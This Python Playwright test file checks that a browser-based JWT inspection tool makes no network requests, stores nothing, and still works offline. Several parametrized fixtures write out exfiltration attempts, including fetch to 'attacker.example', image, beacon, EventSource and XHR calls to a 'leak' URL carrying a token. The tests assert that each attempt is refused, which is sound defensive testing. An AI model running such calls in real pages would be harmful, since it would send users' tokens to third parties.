"""Nothing leaves the page: no request after loading, and none is possible; and it opens again without a network."""

from __future__ import annotations

from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import TYPE_CHECKING

import pytest

from forwhom.workbench.export import export
from tests.browser.opening import opened, serving
from tests.sample_token import token

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

    from tests.browser.opening import Workbench

pytestmark = pytest.mark.browser
TEXT = f"jwt audience invalid. expected: https://api.example.com\n{token()}"


def test_no_request_follows_the_loading(workbench: Workbench) -> None:
    """Whatever is pasted, chosen and copied, the browser's own log stays empty; the page counts and says so."""
    workbench.wait_for("document.documentElement.dataset.kept !== undefined")
    workbench.requests.clear()
    workbench.paste(TEXT)
    workbench.page.locator("#other").select_option("pyjwt")
    workbench.page.get_by_text("Which verifiers would accept this pair").click()
    workbench.page.get_by_role("button", name="Copy report as text").click()
    workbench.wait_for("document.querySelectorAll('#further .verdict').length > 50")
    workbench.page.get_by_text("Which verifiers would accept this pair").click()
    workbench.page.locator("#other").select_option("")
    assert workbench.requests == []
    assert workbench.page.locator("#requests").inner_text() == "0 requests since loading"


def test_nothing_breaks_the_policy(workbench: Workbench) -> None:
    """Reading a token needs nothing that the policy forbids."""
    workbench.paste(TEXT)
    assert workbench.violations() == []
    assert workbench.complaints == []


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('{address}leak?token').then(() => 'sent', () => 'refused')",
        "fetch('https://attacker.example/').then(() => 'sent', () => 'refused')",
        "import('{address}leak.js').then(() => 'sent', () => 'refused')",
        "new Promise((r) => {{ const i = new Image(); i.onload = () => r('sent'); i.onerror = () => r('refused'); i.src = '{address}leak'; }})",
        "(() => {{ try {{ return navigator.sendBeacon('{address}leak') ? 'refused' : 'refused'; }} catch {{ return 'refused'; }} }})()",
        "new Promise((r) => {{ try {{ const s = new WebSocket('ws://127.0.0.1/'); s.onopen = () => r('sent'); s.onerror = () => r('refused'); }} catch {{ r('refused'); }} }})",
        "new Promise((r) => {{ const s = new EventSource('{address}leak'); s.onopen = () => r('sent'); s.onerror = () => r('refused'); }})",
    ],
)
def test_the_browser_refuses_every_connection(workbench: Workbench, attempt: str) -> None:
    """WEB-07: whatever might run in the page can send nothing, not even to the server it came from."""
    workbench.requests.clear()
    assert workbench.page.evaluate(attempt.format(address=workbench.address)) == "refused"
    assert [url for url in workbench.requests if "leak" in url] == []


def test_the_engine_is_sealed_as_well(workbench: Workbench) -> None:
    """The worker has inherited the policy: neither fetch nor import nor a request of the old kind leaves it."""
    [worker] = workbench.page.workers
    tried = """async (address) => {
      const refused = async (attempt) => { try { await attempt(); return false; } catch { return true; } };
      const request = () => new Promise((done, failed) => {
        const one = new XMLHttpRequest();
        one.open("GET", `${address}leak`);
        one.onload = done;
        one.onerror = failed;
        one.send();
      });
      return [await refused(() => fetch(`${address}leak`)), await refused(() => import(`${address}leak.js`)), await refused(request)];
    }"""
    workbench.requests.clear()
    assert worker.evaluate(tried, workbench.address) == [True, True, True]
    assert [url for url in workbench.requests if "leak" in url] == []


def test_nothing_is_stored(workbench: Workbench) -> None:
    """What was pasted is in no storage, and no cookie is set; what is kept are our own files."""
    workbench.paste(TEXT)
    stored = """(async () => {
      const databases = (await indexedDB.databases()).length;
      const names = await caches.keys();
      const kept = [];
      for (const name of names) for (const { url } of await (await caches.open(name)).keys()) kept.push(url);
      return { local: localStorage.length, session: sessionStorage.length, databases, kept, cookie: document.cookie };
    })()"""
    told = workbench.page.evaluate(stored)
    assert (told["local"], told["session"], told["databases"], told["cookie"]) == (0, 0, 0, "")
    assert all(url.startswith(workbench.address) and "?" not in url and "eyJ" not in url for url in told["kept"])


def test_it_opens_again_without_a_network(browser: Browser) -> None:
    """Once loaded, the page loads again when its server is gone, and the engine answers."""
    context = browser.new_context()
    with serving() as address:
        first = opened(context, address)
        first.ready()
        first.wait_for("document.documentElement.dataset.kept !== undefined")
    first.page.reload()
    first.ready()
    first.paste(TEXT)
    assert first.page.locator("[data-code=aud-trailing-slash]").count() == 1
    context.close()


class Plain(SimpleHTTPRequestHandler):
    """A static host as simple as there is: it knows files, and sends no header of ours."""

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - its name in the standard library
        """Says nothing."""


def test_an_export_works_from_any_static_host(browser: Browser, tmp_path: Path) -> None:
    """In a folder of a host that sends none of our headers the page is whole, sealed, and makes no request."""
    export(tmp_path / "tools" / "forwhom")
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Plain, directory=str(tmp_path))) as host:
        Thread(target=host.serve_forever, daemon=True).start()
        context = browser.new_context()
        page = opened(context, f"http://127.0.0.1:{host.server_port}/tools/forwhom/")
        page.ready()
        page.wait_for("document.documentElement.dataset.kept !== undefined")
        page.requests.clear()
        page.paste(TEXT)
        assert page.page.locator("[data-code=aud-trailing-slash]").count() == 1
        assert page.page.evaluate("fetch('leak').then(() => 'sent', () => 'refused')") == "refused"
        [worker] = page.page.workers
        asked = "(url) => fetch(url).then(() => 'sent', () => 'refused')"
        assert worker.evaluate(asked, f"{page.address}leak") == "refused"
        assert page.requests == []
        context.close()
        host.shutdown()
